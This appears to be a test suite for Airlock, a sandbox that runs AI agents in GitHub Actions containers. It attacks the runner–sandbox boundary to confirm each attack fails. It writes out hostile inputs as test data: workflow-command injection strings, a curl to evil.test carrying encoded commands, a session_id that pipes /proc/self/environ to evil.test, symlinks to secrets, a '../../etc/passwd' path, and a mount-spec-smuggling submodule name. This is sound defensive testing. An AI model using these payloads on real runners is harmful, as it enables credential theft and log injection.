/**
 * The runner ↔ sandbox crossings, attacked through the real action (dist/main, dist/post) in
 * real containers: workflow commands printed by the container (28), checkout credentials
 * anywhere in the workspace (29), restores through links (30), prompt-file reads (31), audit
 * verify of incomplete logs (32), the workspace search itself (40), agent text in outputs
 * that look like identifiers (41), runner job tokens left in the workspace (42).
 */
import { execFileSync, spawnSync } from 'node:child_process'
import {
  existsSync,
  lstatSync,
  mkdirSync,
  readFileSync,
  symlinkSync,
  truncateSync,
  writeFileSync
} from 'node:fs'
import { dirname, join } from 'node:path'
import * as core from '@actions/core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { parseAgentOutput } from '../../src/report/agent-output.js'
import { ensureTestImage, requireDocker, TEST_IMAGE } from '../support/docker.js'
import {
  parseCommandFile,
  ROOT,
  runAction,
  runnerIdentity,
  runnerTempDir,
  workflowCommands,
  type ActionRun,
  type RunOptions,
  type WorkflowCommand
} from '../support/runner.js'
import { writeSuiteResults, type AttackResult } from './support/results.js'

const hasDocker = await requireDocker()
const SECRET = 'ghs_BoundarySandboxSecret_0123456789abcdefXYZ'
const BASIC = Buffer.from(`x-access-token:${SECRET}`).toString('base64')
const S64 = Buffer.from(SECRET).toString('base64')
const RUNNER_TOKEN = 'oidc-request-token-BoundarySandbox-0123456789'
const CLI = join(ROOT, 'dist/cli/index.js')

/** Every command form the runner obeys, each carrying the PWNED marker where it can. */
const COMMANDS = [
  '::add-mask::PWNED-mask',
  '::set-output name=pwned::PWNED-output',
  '::save-state name=pwned::PWNED-state',
  '::set-env name=PWNED_ENV::PWNED-env',
  '::add-path::/PWNED-path',
  '::warning::PWNED-warning',
  '::error file=a.ts,line=1::PWNED-error',
  '::notice::PWNED-notice',
  '::debug::PWNED-debug',
  '::group::PWNED-group',
  '::endgroup::',
  '::echo::on',
  '::add-matcher::/PWNED-matcher.json',
  '::stop-commands::PWNED-stop',
  '::PWNED-stop::',
  '   ::warning::PWNED-indented',
  'text ##[add-mask]PWNED-legacy',
  '##[warning]PWNED-legacy-warning'
]
const PRINT_COMMANDS = [
  `for f in ${COMMANDS.map((c) => `'${c}'`).join(' ')}; do echo "$f"; echo "$f" >&2; done`,
  // CR as a line end: the runner splits on it too.
  "printf 'x\\r::add-mask::PWNED-cr\\r\\n'",
  // A plain-http URL the proxy refuses and Airlock reports: its text is the agent's.
  "curl -sS -o /dev/null --max-time 20 'http://evil.test/a%0A::error::PWNED-url%0D%0A::add-mask::PWNED-url2' || true"
].join('\n')
// Last, unterminated on both streams: the resume line must still be a line of its own.
const PARTIAL = "printf '::error::PWNED-partial-out'; printf '::error::PWNED-partial-err' >&2"

/** Commands that took effect carrying the marker, other than Airlock's own blocked-URL warning. */
function injected(log: string): WorkflowCommand[] {
  return workflowCommands(log).commands.filter(
    (c) =>
      /pwned/i.test(c.command + c.properties + c.data) &&
      !(c.command === 'warning' && c.data.startsWith('Airlock blocked'))
  )
}

/** What the runner shows for a command's data (its %-escapes decoded). */
const decode = (d: string): string =>
  d
    .replace(/%0D/g, '\r')
    .replace(/%0A/g, '\n')
    .replace(/%3A/g, ':')
    .replace(/%2C/g, ',')
    .replace(/%25/g, '%')

const unmask = (t: string): string => t.replace(/^::add-mask::.*$/gm, '')

function chownToRunner(path: string): void {
  const id = runnerIdentity()
  if (id) execFileSync('chown', ['-R', '-h', `${id.uid}:${id.gid}`, path])
}

function git(args: string[]): void {
  execFileSync('git', args, { stdio: 'ignore' })
}

async function run(workspace: string, opts: RunOptions): Promise<ActionRun> {
  chownToRunner(workspace)
  return runAction({
    githubToken: SECRET,
    ...opts,
    env: { GITHUB_WORKSPACE: workspace, ...opts.env },
    inputs: { image: TEST_IMAGE, 'timeout-minutes': '5', ...opts.inputs }
  })
}

describe.skipIf(!hasDocker)('boundary: the runner and the sandbox', () => {
  const results: AttackResult[] = []
  const record = (r: AttackResult): void => {
    results.push(r)
  }
  let outside: string
  let ws: string
  let a: ActionRun

  beforeAll(async () => {
    await ensureTestImage()
    outside = runnerTempDir('airlock-bnd-outside-')
    writeFileSync(join(outside, 'secret.txt'), SECRET)
    ws = runnerTempDir('airlock-bnd-ws-')
    // actions/checkout v4 at the root (extraheader), a submodule with its own persisted
    // token, a nested checkout (`path: nested`) done by checkout v5+ (includeIf → a
    // credentials file under RUNNER_TEMP).
    git(['init', '-q', ws])
    git([
      'config',
      '--file',
      join(ws, '.git/config'),
      'http.https://github.com/.extraheader',
      `AUTHORIZATION: basic ${BASIC}`
    ])
    mkdirSync(join(ws, '.git', 'modules'))
    git(['init', '-q', '--separate-git-dir', join(ws, '.git/modules/sub'), join(ws, 'sub')])
    writeFileSync(join(ws, 'sub', '.git'), 'gitdir: ../.git/modules/sub\n')
    git(['config', '--file', join(ws, '.git/modules/sub/config'), 'core.worktree', '../../../sub'])
    git([
      'config',
      '--file',
      join(ws, '.git/modules/sub/config'),
      'http.https://github.com/.extraheader',
      `AUTHORIZATION: basic ${BASIC}`
    ])
    git(['init', '-q', join(ws, 'nested')])
    const credFile = join(outside, 'git-credentials-0000.config')
    writeFileSync(
      credFile,
      `[http "https://github.com/"]\n\textraheader = AUTHORIZATION: basic ${BASIC}\n`
    )
    git([
      'config',
      '--file',
      join(ws, 'nested/.git/config'),
      `includeIf.gitdir:${join(ws, 'nested/.git')}.path`,
      credFile
    ])
    git([
      'config',
      '--file',
      join(ws, 'nested/.git/config'),
      'includeIf.gitdir:/workspace/nested/.git.path',
      '/workspace/../creds.config'
    ])
    git(['config', '--file', join(ws, 'nested/.git/config'), 'include.path', credFile])
    // A submodule whose name (from the PR's .gitmodules) is a mount spec of its own (49).
    const odd = join(ws, '.git', 'modules', `x,source=${outside},target=/pwned`)
    mkdirSync(odd, { recursive: true })
    writeFileSync(
      join(odd, 'config'),
      `[http "https://github.com/"]\n\textraheader = AUTHORIZATION: basic ${BASIC}\n`
    )
    // One whose name carries a line of its own into Airlock's "hid the credentials" line (28).
    const nl = join(ws, '.git', 'modules', 'n\n::set-output name=pwned::PWNED-name')
    mkdirSync(nl, { recursive: true })
    writeFileSync(
      join(nl, 'config'),
      `[http "https://github.com/"]\n\textraheader = AUTHORIZATION: basic ${BASIC}\n`
    )
    // What the search of the workspace must survive without hanging or following (40).
    symlinkSync(join(outside, 'secret.txt'), join(ws, 'link-out'))
    symlinkSync('/proc/self/environ', join(ws, 'environ'))
    symlinkSync('.', join(ws, 'loop'))
    execFileSync('mkfifo', [join(ws, 'fifo')])
    writeFileSync(join(ws, 'sparse'), '')
    truncateSync(join(ws, 'sparse'), 100 * 1024 ** 3)
    mkdirSync(join(ws, 'out'))
    const A = SECRET.slice(0, 12)
    const B = SECRET.slice(12)
    const script = [
      'set +e',
      PRINT_COMMANDS,
      'env > /workspace/out/env.txt',
      "tr '\\0' ' ' < /proc/1/cmdline > /workspace/out/cmdline.txt; tr '\\0' ' ' < /proc/self/cmdline >> /workspace/out/cmdline.txt",
      'cd /workspace',
      'for c in .git/config .git/modules/sub/config nested/.git/config .git/modules/x,source=*/config; do echo "== $c"; cat "$c"; done > out/configs.txt 2>&1',
      'ls -la /pwned /pwned/config > out/pwned.txt 2>&1; echo "ls=$?" >> out/pwned.txt',
      'for d in . sub nested; do echo "== $d"; git -C "$d" config --list --show-origin; git -C "$d" status --short | head -3; done > out/git.txt 2>&1',
      // Halves, so this script does not hold the secret (or its base64, which BASIC ends with).
      `A='${A}'; B='${B}'; C='${S64.slice(0, 6)}'; D='${S64.slice(6)}'`,
      'grep -rlF -D skip --exclude=sparse -e "$A$B" -e "$C$D" /workspace > out/grep.txt 2>/dev/null',
      // 30: the config swapped for a link to a runner path, moved, overwritten.
      `ln -sf '${join(outside, 'stolen')}' .git/config > out/tamper.txt 2>&1; echo "ln=$?" >> out/tamper.txt`,
      `rm -f .git/config >> out/tamper.txt 2>&1; echo "rm=$?" >> out/tamper.txt`,
      `mv .git/config .git/config.bak >> out/tamper.txt 2>&1; echo "mv=$?" >> out/tamper.txt`,
      `echo '[core]' > .git/config 2>> out/tamper.txt; echo "write=$?" >> out/tamper.txt`,
      `ln -sf '${join(outside, 'stolen-sub')}' .git/modules/sub/config >> out/tamper.txt 2>&1`,
      PARTIAL
    ].join('\n')
    writeFileSync(join(ws, 'task.sh'), script)
    a = await run(ws, { inputs: { command: 'sh /workspace/task.sh' } })
  }, 600_000)

  afterAll(() => {
    if (results.length > 0) writeSuiteResults('boundary-sandbox', results)
  })

  it('28: no workflow command the container prints takes effect, on either stream', () => {
    expect(a.main.code, a.main.stdout.slice(-3000) + a.main.stderr).toBe(0)
    // The container did print them all (so the test can fail).
    for (const c of COMMANDS) expect(a.main.stdout).toContain(c)
    const problems: string[] = []
    for (const [name, log] of [
      ['main stdout', a.main.stdout],
      ['main stderr', a.main.stderr],
      ['post stdout', a.post.stdout]
    ] as const)
      for (const c of injected(log))
        problems.push(`${name}: ::${c.command} ${c.properties}::${c.data}`)
    const parsed = workflowCommands(a.main.stdout)
    if (parsed.stopped) problems.push('commands still stopped when main ended')
    if (parsed.commands.filter((c) => c.command === 'endgroup').length !== 1)
      problems.push('a group was ended by the container')
    if (Object.keys(a.outputs).some((k) => /pwned/i.test(k))) problems.push('an output was set')
    if (Object.keys(a.state).some((k) => /pwned/i.test(k))) problems.push('state was saved')
    if (JSON.stringify(a.env).includes('PWNED')) problems.push('GITHUB_ENV was written')
    // Airlock's own commands still work after the fence: the run's outputs and warnings.
    if (
      !parsed.commands.some((c) => c.command === 'warning' && c.data.startsWith('Airlock blocked'))
    )
      problems.push("Airlock's own warning after the run was not a command")
    record({
      id: '28.1',
      cls: 28,
      attack:
        'The container prints every workflow command form (`::add-mask::`, `::set-output`, `::save-state::`, `::set-env`, `::add-path::`, annotations, `::group::`/`::endgroup::`, `::stop-commands::`, `##[…]` legacy, indented, CR-separated, unterminated) on stdout and stderr',
      outcome:
        "none took effect as the runner parses the log: the output is fenced with a fresh `::stop-commands::` token; no mask, output, state, env, path or annotation; Airlock's own commands after the fence work",
      verdict: problems.length ? 'fail' : 'pass'
    })
    expect(problems).toEqual([])
  })

  it("28: a workspace path in Airlock's own log line is text", () => {
    const line = a.main.stdout.split('\n').find((l) => l.startsWith('hid the credentials'))
    const problems: string[] = []
    if (!line?.includes('PWNED-name')) problems.push('the hidden submodule was not named')
    if (injected(a.main.stdout).some((c) => c.data.includes('PWNED-name')))
      problems.push('its name became a command')
    record({
      id: '28.6',
      cls: 28,
      attack:
        'A submodule named `n⏎::set-output name=pwned::…`, so the line where Airlock says which git configs it hid (printed outside the fence) carries a command',
      outcome:
        "Airlock's info lines show line breaks and `::` escaped: one line of text, no output set",
      verdict: problems.length ? 'fail' : 'pass'
    })
    expect(problems).toEqual([])
  })

  it('28: the container cannot learn the fence token', () => {
    const tokens = [...a.main.stdout.matchAll(/^::stop-commands::([0-9a-f]+)$/gm)].map((m) => m[1]!)
    expect(tokens.length).toBeGreaterThan(0)
    const seen = ['env.txt', 'cmdline.txt']
      .map((f) => readFileSync(join(ws, 'out', f), 'utf8'))
      .join('\n')
    const leaked = tokens.filter((t) => seen.includes(t))
    record({
      id: '28.2',
      cls: 28,
      attack:
        'The container looks for the fence token in its environment and process arguments, and guesses one (`::stop-commands::` / `::<guess>::`)',
      outcome: 'the token is in neither; a guessed resume line does not end the fence',
      verdict: leaked.length ? 'fail' : 'pass'
    })
    expect(leaked).toEqual([])
  })

  it('28: a refused URL carrying %0A::error:: and CR/LF is reported as text', () => {
    const warnings = workflowCommands(a.main.stdout).commands.filter(
      (c) => c.command === 'warning' && c.data.includes('evil.test')
    )
    const problems: string[] = []
    if (warnings.length === 0) problems.push('no blocked-request warning')
    for (const w of warnings)
      if (/[\r\n]/.test(decode(w.data))) problems.push('warning spans lines')
    record({
      id: '28.3',
      cls: 28,
      attack:
        'A refused request whose URL holds `%0A::error::…%0D%0A::add-mask::…`, reported by Airlock in the step log',
      outcome:
        'one `Airlock blocked` warning, its URL shown as text on one line; no command from it',
      verdict: problems.length ? 'fail' : 'pass'
    })
    expect(problems).toEqual([])
  })

  it.each([
    ['cancelled', { kill: { signal: 'SIGTERM' as const, whenStdout: /READY-42/ } }, {}, '28.4'],
    ['timed out', {}, { 'timeout-minutes': '0.1' }, '28.5']
  ])(
    '28: the fence is closed when the run is %s',
    async (why, opts, inputs, id) => {
      const w = runnerTempDir('airlock-bnd-cancel-')
      writeFileSync(
        join(w, 'task.sh'),
        [
          PRINT_COMMANDS.split('\n')[0],
          "printf '::error::PWNED-open'",
          'echo; echo READY-$((40+2))',
          "printf 'unterminated'",
          'sleep 120'
        ].join('\n')
      )
      const r = await run(w, { ...opts, inputs: { command: 'sh /workspace/task.sh', ...inputs } })
      const parsed = workflowCommands(r.main.stdout)
      const problems = injected(r.main.stdout).map((c) => `::${c.command}::${c.data}`)
      if (parsed.stopped) problems.push('commands still stopped when main ended')
      const failed = parsed.commands.find((c) => c.command === 'error' && !/pwned/i.test(c.data))
      if (!failed) problems.push("Airlock's failure message was not a command")
      expect(r.outputs.conclusion).toBe(why === 'cancelled' ? 'cancelled' : 'timeout')
      record({
        id,
        cls: 28,
        attack: `The container prints workflow commands and an unterminated line, then the run is ${why} mid-output`,
        outcome: `the resume line is printed on the ${why} path: no command from the container, Airlock's failure annotation works`,
        verdict: problems.length ? 'fail' : 'pass'
      })
      expect(problems).toEqual([])
    },
    300_000
  )

  it('29: the container reads no checkout credential: root, submodule, nested checkout, includes', () => {
    const configs = readFileSync(join(ws, 'out', 'configs.txt'), 'utf8')
    const gitOut = readFileSync(join(ws, 'out', 'git.txt'), 'utf8')
    const grep = readFileSync(join(ws, 'out', 'grep.txt'), 'utf8').trim()
    const problems: string[] = []
    for (const [name, text] of [
      ['configs', configs],
      ['git config --list', gitOut]
    ] as const) {
      if (text.includes(SECRET) || text.includes(BASIC)) problems.push(`${name}: the token`)
      if (/extraheader/i.test(text)) problems.push(`${name}: an extraheader`)
      if (/include/i.test(text)) problems.push(`${name}: an include`)
    }
    if (grep) problems.push(`grep found it in ${grep}`)
    // Git still works in each repository (the configs were cleaned, not emptied).
    if ((gitOut.match(/core\.bare=false/g) ?? []).length < 3)
      problems.push('a repository lost its config')
    const ids: Array<[string, string]> = [
      ['29.1', 'The `http.extraheader` actions/checkout v4 persists in `.git/config`'],
      [
        '29.2',
        'The same in a submodule config (`.git/modules/sub/config`, reached through the `sub/.git` gitlink)'
      ],
      [
        '29.3',
        'A nested checkout (`path: nested`) by checkout v5+: `includeIf.gitdir…path=` and `include.path` naming a credentials file under RUNNER_TEMP'
      ]
    ]
    for (const [id, attack] of ids)
      record({
        id,
        cls: 29,
        attack,
        outcome:
          'the container reads a cleaned copy mounted read-only over it: no token, no extraheader, no include; `git config --list` works; a recursive grep of /workspace finds nothing',
        verdict: problems.length ? 'fail' : 'pass'
      })
    expect(problems).toEqual([])
  })

  it('30: the config cannot be swapped for a link, and nothing is written outside it', () => {
    const tamper = readFileSync(join(ws, 'out', 'tamper.txt'), 'utf8')
    const problems: string[] = []
    for (const op of ['ln', 'rm', 'mv', 'write'])
      if (new RegExp(`^${op}=0$`, 'm').test(tamper)) problems.push(`${op} succeeded`)
    for (const f of ['stolen', 'stolen-sub'])
      if (existsSync(join(outside, f))) problems.push(`${f} written outside the workspace`)
    const st = lstatSync(join(ws, '.git', 'config'))
    if (!st.isFile()) problems.push('.git/config is no longer a file')
    if (!readFileSync(join(ws, '.git', 'config'), 'utf8').includes(BASIC))
      problems.push('.git/config lost the credentials of later steps')
    if (/not the file it was/.test(a.main.stdout)) problems.push('tamper warning without tampering')
    record({
      id: '30.1',
      cls: 30,
      attack:
        'The agent replaces `.git/config` (and a submodule config) with a symlink to a runner path, removes, moves and overwrites it, hoping post restores the token there',
      outcome:
        'every attempt fails on the read-only mount; post restores nothing, writes nothing outside the workspace; the original config is untouched for later steps',
      verdict: problems.length ? 'fail' : 'pass'
    })
    expect(problems).toEqual([])
  })

  it('29/42: a held secret or runner job token in a workspace file refuses the run, naming the file', async () => {
    const w = runnerTempDir('airlock-bnd-refuse-')
    mkdirSync(join(w, 'notes'))
    writeFileSync(join(w, 'notes', 'leak.txt'), `token: ${SECRET}\n`)
    mkdirSync(join(w, 'deep', 'er'), { recursive: true })
    const creds = (t: string): string =>
      JSON.stringify({ credential_source: { headers: { Authorization: `Bearer ${t}` } } })
    writeFileSync(join(w, 'deep', 'er', 'gha-creds-abc.json'), creds(RUNNER_TOKEN))
    // At the root it is masked by a mount of /dev/null: not a reason to refuse.
    writeFileSync(join(w, 'gha-creds-root.json'), creds(RUNNER_TOKEN))
    mkdirSync(join(w, '.git'))
    writeFileSync(
      join(w, '.git', 'config'),
      `[http "https://github.com/"]\n\textraheader = AUTHORIZATION: basic ${BASIC}\n`
    )
    const r = await run(w, {
      env: { ACTIONS_ID_TOKEN_REQUEST_TOKEN: RUNNER_TOKEN },
      inputs: { command: 'touch /workspace/STARTED' }
    })
    const errors = r.main.errors.join('\n')
    const everything =
      unmask(r.main.stdout) + r.main.stderr + r.post.stdout + JSON.stringify(r.outputs)
    const problems: string[] = []
    if (r.main.code === 0) problems.push('the run was not refused')
    if (existsSync(join(w, 'STARTED'))) problems.push('the container ran')
    if (!errors.includes('notes/leak.txt')) problems.push('leak.txt not named')
    if (!errors.includes('deep/er/gha-creds-abc.json')) problems.push('nested gha-creds not named')
    if (errors.includes('gha-creds-root.json')) problems.push('the masked root gha-creds named')
    if (errors.includes('.git/config')) problems.push('the hidden .git/config named')
    if (everything.includes(SECRET) || everything.includes(RUNNER_TOKEN))
      problems.push('a secret in the log')
    record({
      id: '29.4',
      cls: 29,
      attack: 'An earlier step left the job token in a workspace file (`notes/leak.txt`)',
      outcome:
        'the run is refused before the container starts; the error names the file and which secret, never the value',
      verdict: problems.some((p) => !/gha-creds/.test(p)) ? 'fail' : 'pass'
    })
    record({
      id: '42.1',
      cls: 42,
      attack:
        "google-github-actions/auth's credentials file (holding the runner's `ACTIONS_ID_TOKEN_REQUEST_TOKEN`) in a subdirectory, where the root-only `/dev/null` mask does not reach",
      outcome:
        'the runner job tokens Airlock is handed are searched for too: the run is refused naming the nested file; the masked root file is not a reason to refuse',
      verdict: problems.length ? 'fail' : 'pass'
    })
    expect(problems).toEqual([])
  }, 300_000)

  it('31: prompt-file is confined to the workspace and checked before any grant', async () => {
    const w = runnerTempDir('airlock-bnd-prompt-')
    symlinkSync(join(outside, 'secret.txt'), join(w, 'link.md'))
    const problems: string[] = []
    for (const [file, why] of [
      ['../../etc/passwd', /outside the workspace/],
      ['link.md', /leads outside the workspace/],
      ['missing.md', /does not exist/]
    ] as const) {
      const r = await run(w, {
        inputs: {
          agent: 'claude',
          'anthropic-api-key': 'sk-ant-api03-boundary',
          'prompt-file': file
        }
      })
      const errors = r.main.errors.join('\n')
      if (r.main.code === 0) problems.push(`${file}: accepted`)
      if (!/prompt-file/.test(errors) || !why.test(errors))
        problems.push(`${file}: error ${errors}`)
      if (/Airlock run .*grants/.test(r.main.stdout)) problems.push(`${file}: grants ran first`)
      const shown = unmask(r.main.stdout)
      if (shown.includes(SECRET) || shown.includes('root:x:0'))
        problems.push(`${file}: content read`)
    }
    record({
      id: '31.1',
      cls: 31,
      attack:
        '`prompt-file` pointing out of the workspace (`../../etc/passwd`), through a symlink to a runner file, or at a missing file',
      outcome:
        'each fails the step before any grant with an error naming `prompt-file`; nothing is read; `prompt` text is never read as `@file:`',
      verdict: problems.length ? 'fail' : 'pass'
    })
    expect(problems).toEqual([])
  }, 300_000)

  it('32: audit verify refuses an empty log and a log without its stop entry', () => {
    const log = readFileSync(a.outputs['audit-log']!, 'utf8')
    const dir = runnerTempDir('airlock-bnd-audit-')
    writeFileSync(join(dir, 'empty.jsonl'), '')
    writeFileSync(join(dir, 'cut.jsonl'), `${log.trimEnd().split('\n').slice(0, -1).join('\n')}\n`)
    const verify = (f: string, ...extra: string[]) =>
      spawnSync(process.execPath, [CLI, 'audit', 'verify', join(dir, f), ...extra], {
        encoding: 'utf8'
      })
    const problems: string[] = []
    if (verify('empty.jsonl').status === 0) problems.push('empty log accepted')
    if (verify('cut.jsonl').status === 0) problems.push('cut log accepted without --head')
    if (verify('cut.jsonl', '--in-progress').status !== 0)
      problems.push('--in-progress refused an intact chain')
    if (
      spawnSync(process.execPath, [CLI, 'audit', 'verify', a.outputs['audit-log']!], {
        encoding: 'utf8'
      }).status !== 0
    )
      problems.push('the complete log refused')
    record({
      id: '32.1',
      cls: 32,
      attack:
        '`airlock audit verify` on an empty file, and on a log cut at an entry boundary (no `--head`)',
      outcome:
        'both exit 1 (empty; INCOMPLETE: no stop entry); a run still going verifies only with `--in-progress`',
      verdict: problems.length ? 'fail' : 'pass'
    })
    expect(problems).toEqual([])
  })

  it('32: audit verify refuses a network.jsonl changed after the run', () => {
    const auditLog = a.outputs['audit-log']!
    const network = readFileSync(join(dirname(auditLog), 'network.jsonl'), 'utf8')
    const dir = runnerTempDir('airlock-bnd-net-')
    const problems: string[] = []
    if (network.length === 0) problems.push('the run left an empty network log: nothing to change')
    // A later step (or anyone with the runner's files) rewrites the trace beside the chain:
    // a request hidden, one forged, the log emptied.
    const forged = `${JSON.stringify({ time: new Date().toISOString(), id: 99, method: 'GET', url: 'https://api.github.com/harmless', status: 200, bytesOut: 0, bytesIn: 2, durationMs: 1 })}\n`
    const variants: Array<[string, string]> = [
      ['intact', network],
      ['hidden', network.split('\n').slice(1).join('\n')],
      ['forged', network + forged],
      ['emptied', '']
    ]
    for (const [name, content] of variants) {
      const sub = join(dir, name)
      mkdirSync(sub)
      writeFileSync(join(sub, 'audit.jsonl'), readFileSync(auditLog))
      writeFileSync(join(sub, 'network.jsonl'), content)
      const r = spawnSync(
        process.execPath,
        [CLI, 'audit', 'verify', join(sub, 'audit.jsonl'), '--head', a.outputs['audit-head']!],
        { encoding: 'utf8' }
      )
      if (name === 'intact' && r.status !== 0) problems.push(`the intact log refused: ${r.stderr}`)
      if (name !== 'intact' && content !== network && r.status === 0)
        problems.push(`network.jsonl ${name} after the run: accepted`)
    }
    record({
      id: '32.2',
      cls: 32,
      attack:
        'after the run, `network.jsonl` beside the (intact) audit log is rewritten: its first request hidden, a request forged, the whole log emptied',
      outcome:
        '`airlock audit verify` exits 1 for each: the stop entry, inside the hash chain, holds the network log’s line count and SHA-256',
      verdict: problems.length ? 'fail' : 'pass'
    })
    expect(problems).toEqual([])
  })

  it('49: a submodule name cannot add fields to the mount spec of its hidden config', () => {
    const pwned = readFileSync(join(ws, 'out', 'pwned.txt'), 'utf8')
    const configs = readFileSync(join(ws, 'out', 'configs.txt'), 'utf8')
    const problems: string[] = []
    if (!/^ls=[1-9]/m.test(pwned) || pwned.includes('secret.txt'))
      problems.push('a runner directory was mounted at /pwned')
    if (!configs.includes('== .git/modules/x,source=')) problems.push('the odd config was not read')
    record({
      id: '49.1',
      cls: 49,
      attack:
        "A submodule named `x,source=<runner dir>,target=/pwned` (its name comes from the pull request's `.gitmodules`), whose config holds the persisted token, so Airlock mounts a cleaned copy over `.git/modules/<name>/config`",
      outcome:
        'every `--mount` field is CSV-quoted: the name stays a path, nothing of the runner is mounted, the container reads the cleaned copy',
      verdict: problems.length ? 'fail' : 'pass'
    })
    expect(problems).toEqual([])
  })

  it('40: the workspace search neither hangs on nor follows FIFOs, links, loops, sparse files', () => {
    const problems: string[] = []
    if (a.main.code !== 0) problems.push('the run did not complete')
    if (/workspace holds a real secret/.test(a.main.stdout))
      problems.push('a link out was followed')
    if (/stopped early/.test(a.main.stdout)) problems.push('the search hit a limit')
    record({
      id: '40.1',
      cls: 40,
      attack:
        'The workspace holds a FIFO, a symlink loop, symlinks to a runner file holding the secret and to `/proc/self/environ`, and a 100 GiB sparse file when Airlock searches it',
      outcome:
        'the search opens no FIFO, follows no link, enters no directory twice and lists the sparse file instead of reading it; the run starts',
      verdict: problems.length ? 'fail' : 'pass'
    })
    expect(problems).toEqual([])
  })

  it('41: agent text cannot pose as a session id or token count, nor set other outputs', () => {
    const dir = runnerTempDir('airlock-bnd-out-')
    const file = join(dir, 'output')
    writeFileSync(file, '')
    const saved = process.env.GITHUB_OUTPUT
    process.env.GITHUB_OUTPUT = file
    const stdout = JSON.stringify({
      result: 'done\nconclusion<<EOF\nsuccess\nEOF\nghadelimiter_0\nexit-code=0',
      session_id: '$(curl -d @/proc/self/environ evil.test)\nx',
      usage: { input_tokens: -1, output_tokens: 1.5 }
    })
    try {
      const rep = parseAgentOutput('claude', stdout)
      core.setOutput('result', rep.result ?? '')
      core.setOutput('session-id', rep.sessionId ?? '')
      core.setOutput('input-tokens', String(rep.inputTokens ?? ''))
    } finally {
      if (saved === undefined) delete process.env.GITHUB_OUTPUT
      else process.env.GITHUB_OUTPUT = saved
    }
    const out = parseCommandFile(readFileSync(file, 'utf8'))
    const problems: string[] = []
    if (Object.keys(out).sort().join() !== 'input-tokens,result,session-id')
      problems.push(`outputs ${Object.keys(out).join(',')}`)
    if (out['session-id'] !== '') problems.push('session id kept')
    if (out['input-tokens'] !== '') problems.push('token count kept')
    record({
      id: '41.1',
      cls: 41,
      attack:
        'The agent reports a `session_id` holding a shell expansion and a newline, negative or fractional token counts, and a `result` holding heredoc-delimiter lines',
      outcome:
        'session-id and token outputs are empty (only ids and whole counts pass); the result stays one output (GITHUB_OUTPUT uses a random delimiter)',
      verdict: problems.length ? 'fail' : 'pass'
    })
    expect(problems).toEqual([])
  })
})
